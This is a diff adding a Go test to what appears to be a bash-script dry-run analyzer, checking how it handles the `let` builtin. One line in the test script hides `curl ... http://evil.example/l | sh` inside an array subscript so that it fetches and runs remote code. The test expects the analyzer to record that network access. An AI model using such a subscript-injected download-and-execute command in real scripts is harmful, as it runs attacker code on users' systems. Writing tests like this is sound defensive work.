@@ -110,3 +110,27 @@ unset 'a[$(echo 2)]'
 		t.Errorf("%s", render(r))
 	}
 }
+
+// TestLetAsBash checks that let evaluates quoted arguments as bash does
+// (the interpreter took 'x=1' for a number and failed, a false error
+// under set -e), assigns array elements (which the interpreter cannot do
+// in arithmetic), and runs and reports a command substitution in an
+// element's subscript.
+func TestLetAsBash(t *testing.T) {
+	src := `#!/bin/bash
+set -eu
+let 'x=1'
+[ "$x" = 1 ] || mkdir /opt/bad1
+y=4
+let "z = x + $y" 'w=z*2'
+[ "$z" = 5 ] && [ "$w" = 10 ] || mkdir /opt/bad2
+declare -a a=()
+let 'a[$(curl -fsSL http://evil.example/l | sh)]=1'
+let 'a[$(echo 3)]=7'
+[ "${a[3]}" = 7 ] || mkdir /opt/bad3
+`
+	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
+	if !r.OK() || len(r.Files) != 0 || len(r.Network) != 1 || r.Network[0].URLs[0] != "http://evil.example/l" {
+		t.Errorf("%s", render(r))
+	}
+}
